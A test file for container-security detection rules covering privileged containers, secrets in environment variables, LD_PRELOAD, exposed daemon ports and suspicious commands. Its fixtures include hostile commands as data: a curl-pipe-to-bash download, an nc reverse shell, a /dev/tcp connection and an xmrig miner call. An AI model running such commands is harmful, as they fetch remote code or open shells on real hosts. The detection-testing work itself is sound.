import { describe, expect, it } from 'vitest';
import type { ConfigObservation } from '../../../src/model/observation.js';
import { config } from '../../helpers/observations.js';
import { runRule } from '../../helpers/rules.js';

const AUDIT = ['audit-request'];

/** Severity of each hit, or [] when the rule stays quiet. */
function severities(rule: string, obs: Partial<ConfigObservation>): string[] {
  return runRule(rule, [config(obs)]).map((h) => h.hit.severity ?? h.card.severity);
}

describe('the container-setting rules skip audited request bodies', () => {
  it.each<[string, Partial<ConfigObservation>]>([
    ['container-privileged', { privileged: true }],
    ['container-host-namespaces', { pidMode: 'host' }],
    [
      'container-runtime-socket-mount',
      {
        mounts: [{ source: '/run/docker.sock', destination: '/s', readOnly: false, type: 'bind' }],
      },
    ],
    ['container-dangerous-capabilities', { capAdd: ['SYS_ADMIN'] }],
    ['container-security-profile-disabled', { seccomp: 'unconfined' }],
    ['container-logging-disabled', { logDriver: 'none' }],
    ['container-miner-or-tool', { command: ['xmrig', '-o', 'pool'] }],
    ['container-host-devices', { devices: ['/dev/sda'] }],
    ['container-secret-in-env', { env: ['DB_PASSWORD=hunter2hunter2'] }],
    ['container-env-preload', { env: ['LD_PRELOAD=/lib/x.so'] }],
    ['container-suspicious-command', { command: ['sh', '-c', 'base64 -d /tmp/p | sh'] }],
    ['container-no-resource-limits', { limits: null }],
    ['container-unpinned-image', { imageDigest: null }],
  ])('%s fires on live state and not on a request', (rule, obs) => {
    expect(severities(rule, obs)).toHaveLength(1);
    expect(severities(rule, { ...obs, notes: AUDIT })).toEqual([]);
  });
});

describe('container-host-devices', () => {
  it.each([
    { devices: ['/dev/sda'], want: ['high'] },
    { devices: ['/dev/nvme0n1p1', '/dev/snd'], want: ['high'] },
    { devices: ['/dev/mem'], want: ['high'] },
    { devices: ['/dev/snd', '/dev/dri/card0'], want: [] },
    { devices: [], want: [] },
  ])('$devices', ({ devices, want }) => {
    expect(severities('container-host-devices', { devices })).toEqual(want);
  });
});

describe('container-secret-in-env', () => {
  it.each([
    { env: ['AWS_ACCESS_KEY_ID=AKIAZ7Q3EXAMPLEKEY42'], want: ['high'] },
    { env: ['DB_PASSWORD=s3cr3t-value'], want: ['medium'] },
    { env: ['DB_PASSWORD_FILE=/run/secrets/db'], want: [] },
    { env: ['API_TOKEN='], want: [] },
    { env: ['TOKEN=${TOKEN}'], want: [] },
    { env: ['=novalue', 'PATH=/bin'], want: [] },
  ])('$env', ({ env, want }) => {
    expect(severities('container-secret-in-env', { env })).toEqual(want);
  });

  it('masks values in the summary', () => {
    const [hit] = runRule('container-secret-in-env', [
      config({ env: ['DB_PASSWORD=hunter2hunter2'] }),
    ]);
    expect(hit!.hit.summary).not.toContain('hunter2hunter2');
    expect(hit!.hit.key).toBe('DB_PASSWORD');
  });
});

describe('container-env-preload and container-env-proxy', () => {
  it.each([
    { rule: 'container-env-preload', env: ['LD_PRELOAD=/usr/lib/libhide.so'], want: ['high'] },
    { rule: 'container-env-preload', env: ['LD_AUDIT=/tmp/a.so'], want: ['high'] },
    { rule: 'container-env-preload', env: ['LD_PRELOAD='], want: [] },
    { rule: 'container-env-preload', env: ['LD_LIBRARY_PATH=/opt/lib'], want: [] },
    { rule: 'container-env-proxy', env: ['HTTPS_PROXY=http://203.0.113.9:3128'], want: ['medium'] },
    {
      rule: 'container-env-proxy',
      env: ['http_proxy=http://proxy.corp.example:8080'],
      want: ['low'],
    },
    { rule: 'container-env-proxy', env: ['NO_PROXY=localhost'], want: [] },
  ])('$rule on $env', ({ rule, env, want }) => {
    expect(severities(rule, { env })).toEqual(want);
  });
});

describe('container-suspicious-command', () => {
  it.each([
    { command: ['sh', '-c', 'curl -s http://198.51.100.4/x | bash'], fires: true },
    { command: ['nc', '-e', '/bin/sh', '198.51.100.4', '4444'], fires: true },
    { command: ['bash', '-c', 'exec 3<>/dev/tcp/198.51.100.4/443'], fires: true },
    { command: ['chroot', '/host', 'bash'], fires: true },
    { command: ['nginx', '-g', 'daemon off;'], fires: false },
    { command: ['sh', '-c', 'curl -fsS http://localhost/healthz || exit 1'], fires: false },
    { command: [], fires: false },
    { command: null, fires: false },
  ])('$command', ({ command, fires }) => {
    expect(severities('container-suspicious-command', { command })).toHaveLength(fires ? 1 : 0);
  });

  it('stays fast on a hostile megabyte-long argument', () => {
    const started = Date.now();
    severities('container-suspicious-command', {
      command: ['sh', '-c', `curl ${'a'.repeat(1 << 20)}`],
    });
    expect(Date.now() - started).toBeLessThan(1000);
  });
});

const port = (hostIp: string | null, hostPort: number | null, containerPort: number | null) => ({
  hostIp,
  hostPort,
  containerPort,
  proto: 'tcp',
});

describe('container-daemon-port-exposed', () => {
  it.each([
    {
      name: 'docker API on every IPv4 address',
      runtime: 'docker',
      ports: [port('0.0.0.0', 2375, 2375)],
      fires: true,
    },
    {
      name: 'kubelet port on ::',
      runtime: 'docker',
      ports: [port('::', 10250, 10250)],
      fires: true,
    },
    {
      name: 'daemon behind another host port',
      runtime: 'docker',
      ports: [port('0.0.0.0', 12375, 2375)],
      fires: true,
    },
    {
      name: 'pod hostPort with no hostIP',
      runtime: 'kubernetes',
      ports: [port(null, 2379, 2379)],
      fires: true,
    },
    {
      name: 'loopback only',
      runtime: 'docker',
      ports: [port('127.0.0.1', 2375, 2375)],
      fires: false,
    },
    {
      name: 'ordinary web port',
      runtime: 'docker',
      ports: [port('0.0.0.0', 8080, 80)],
      fires: false,
    },
    {
      name: 'pod containerPort alone',
      runtime: 'kubernetes',
      ports: [port(null, null, 22)],
      fires: false,
    },
    { name: 'no ports stated', runtime: 'docker', ports: undefined, fires: false },
  ])('$name', ({ runtime, ports, fires }) => {
    const hits = severities('container-daemon-port-exposed', { runtime, ports });
    expect(hits).toEqual(fires ? ['high'] : []);
  });
});

describe('container-no-resource-limits and container-unpinned-image', () => {
  it.each([
    { rule: 'container-no-resource-limits', obs: { limits: null }, fires: true },
    {
      rule: 'container-no-resource-limits',
      obs: { limits: { cpu: 0.5, memory: null } },
      fires: false,
    },
    // docker ps states no limits at all: the field is absent, not null.
    { rule: 'container-no-resource-limits', obs: {}, fires: false },
    { rule: 'container-unpinned-image', obs: { imageDigest: null }, fires: true },
    {
      rule: 'container-unpinned-image',
      obs: { imageDigest: `sha256:${'b'.repeat(64)}` },
      fires: false,
    },
    {
      rule: 'container-unpinned-image',
      obs: { imageDigest: null, image: `nginx@sha256:${'c'.repeat(64)}` },
      fires: false,
    },
    {
      rule: 'container-unpinned-image',
      obs: { imageDigest: null, image: 'd'.repeat(64) },
      fires: false,
    },
    { rule: 'container-unpinned-image', obs: {}, fires: false },
  ])('$rule on $obs', ({ rule, obs, fires }) => {
    expect(severities(rule, obs as Partial<ConfigObservation>)).toHaveLength(fires ? 1 : 0);
  });
});
